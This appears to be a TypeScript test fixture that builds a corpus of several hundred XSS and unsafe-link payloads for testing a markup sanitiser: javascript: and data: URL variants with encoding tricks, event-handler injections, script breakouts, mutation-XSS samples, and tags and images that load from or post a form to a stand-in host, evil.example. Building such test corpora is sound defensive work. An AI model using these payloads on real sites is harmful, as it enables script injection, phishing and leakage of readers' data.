/** What people would write to run something in the browser of a reader; more than three hundred. */
export function markupCorpus(): string[] {
  return [...ELEMENTS, ...handlers(), ...MUTATING, ...links().map((url) => `[words](${url})`)]
}

/** Addresses that run something, or lead where no link of ours leads. */
export function links(): string[] {
  const schemes = ['javascript', 'vbscript', 'data', 'file', 'blob', 'about', 'ftp', 'view-source']
  const tails = [':hit()', ':text/html,<script>hit()</script>', '://evil.example/x', ':%68it()']
  return [
    ...schemes.flatMap((scheme) => tails.map((tail) => `${scheme}${tail}`)),
    ...['JaVaScRiPt:hit()', 'java\nscript:hit()', 'java\tscript:hit()', '\u0001javascript:hit()'],
    ...[
      ' javascript:hit()',
      'javascript&colon;hit()',
      'javascript&#58;hit()',
      '&#106;avascript:hit()',
    ],
    ...['//evil.example', '\\\\evil.example', '/\\evil.example', 'http://evil'],
  ]
}

const TAGS = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'details',
  'input',
  'math',
  'iframe',
  'object',
  'a',
]
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onbegin',
]

function handlers(): string[] {
  return TAGS.flatMap((tag) =>
    EVENTS.flatMap((event) => [
      `<${tag} src=x href=x autofocus open ${event}=hit()>`,
      `"><${tag} ${event}="hit()" tabindex=1>`,
      `'><${tag}/${event}='hit()'//`,
    ]),
  )
}

const ELEMENTS = [
  '<script>hit()</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '</script><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '</title><script>hit()</script>',
  '<!--><script>hit()</script-->',
  '<![CDATA[<script>hit()</script>]]>',
  '<style>@import "//evil.example/x.css"; * { background: url(//evil.example/x) }</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example/><button>Sign in</button></form>',
  '<embed src=//evil.example/x.swf>',
  '<template><script>hit()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '![x](https://evil.example/pixel.png)',
  '![x](//evil.example/pixel.png "title")',
  '<img src="https://evil.example/pixel.png">',
  '{{constructor.constructor("hit()")()}}',
  ['$', '{hit()}'].join(''),
  '\u2028hit()\u2029',
  '"});hit();//',
  "';hit();//",
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
]

const MUTATING = [
  '<svg><style><img src=x onerror=hit()></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>',
  '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
  '<noembed><img title="</noembed><img src=x onerror=hit()>"></noembed>',
  '<a><table><td></tr><form></table><form id=x><input name=innerHTML></form>',
  '<svg><foreignObject><iframe srcdoc="&lt;script&gt;hit()&lt;/script&gt;"></iframe></foreignObject></svg>',
  '<select><template><img src=x onerror=hit()></template></select>',
]
